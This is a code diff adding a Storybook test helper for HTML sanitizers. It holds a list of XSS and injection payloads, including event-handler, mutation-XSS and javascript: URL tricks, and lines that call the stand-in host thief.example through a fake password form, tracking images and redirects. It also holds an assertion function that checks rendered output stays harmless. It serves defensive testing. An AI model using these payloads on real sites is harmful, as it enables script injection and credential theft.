@@ -1,0 +1,55 @@
+import { expect } from 'storybook/test'
+
+/** Ways in which HTML acts, fetches, or passes for the page around it. Each marks the window, the page, or asks a server. Whatever draws HTML of others is tested with them. */
+export const hostileHtml = [
+  '<script>window.hit = 1</script>',
+  '<img src=x onerror="window.hit = 1">',
+  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
+  '<svg><style><img src=x onerror=window.hit=1></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
+  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
+  '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
+  '<details open ontoggle="window.hit = 1">x</details>',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<a href=" java&#10;script:window.hit=1">x</a>',
+  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
+  '<form action="https://thief.example"><input name="password"><button>Sign in</button></form>',
+  '<button formaction="javascript:window.hit=1">x</button>',
+  '<p style="position: fixed; inset: 0; background: url(https://thief.example/seen.png)">x</p>',
+  '<style>body { display: none }</style>',
+  '<link rel="stylesheet" href="https://thief.example/a.css">',
+  '<meta http-equiv="refresh" content="0; url=https://thief.example">',
+  '<base href="https://thief.example/">',
+  '<img src="https://thief.example/seen.png" alt="x">',
+  '<video poster="https://thief.example/seen.png" src="https://thief.example/a.mp4"></video>',
+  '<p id="root" class="x" data-field="note" aria-label="x" onclick="window.hit = 1">x</p>',
+  '<p><b><svg><p></svg><img src=x onerror=window.hit=1>',
+  '<template><img src=x onerror=window.hit=1></template>',
+  '<x-y onfocus="window.hit = 1" tabindex="0" autofocus>x</x-y>',
+]
+
+/** What foreign HTML may say of its elements. */
+const known = new Set([
+  'colspan',
+  'dir',
+  'href',
+  'lang',
+  'rel',
+  'reversed',
+  'rowspan',
+  'start',
+  'target',
+  'title',
+])
+
+/** That of what was drawn of them nothing acts, is fetched, or passes for the console. */
+export function expectHarmless(drawn: readonly Element[]): void {
+  for (const element of drawn) {
+    expect(element.tagName).not.toMatch(
+      /^(SCRIPT|IMG|SVG|MATH|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|LINK|META|BASE|VIDEO|TEMPLATE|DETAILS|X-Y)$/i,
+    )
+    expect(element.getAttributeNames().filter((name) => !known.has(name))).toEqual([])
+    expect(element.getAttribute('href') ?? 'https:').toMatch(/^(https?|mailto|tel):/)
+  }
+  expect(window).not.toHaveProperty('hit')
+}
